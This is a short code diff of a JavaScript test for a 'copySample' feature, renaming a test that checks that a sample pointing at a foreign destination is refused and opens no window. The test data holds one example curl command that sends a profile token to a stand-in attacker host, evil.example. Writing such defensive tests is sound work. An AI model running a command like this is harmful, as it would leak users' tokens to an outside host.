@@ -277,7 +277,7 @@ describe('copySample', () => {
       expect(JSON.stringify(shown)).not.toMatch(/p-[0-9a-f]{8}-/);
     });
 
-    it('refuses what is refused on the page', async () => {
+    it('opens no window for a sample with a foreign destination', async () => {
       const text = 'curl -H "token: <your-profile-token>" https://evil.example';
       expect(await failureOf(ask('confirm', { text }))).toMatchObject({ code: 'foreign-destination' });
       expect(opened).toEqual([]);
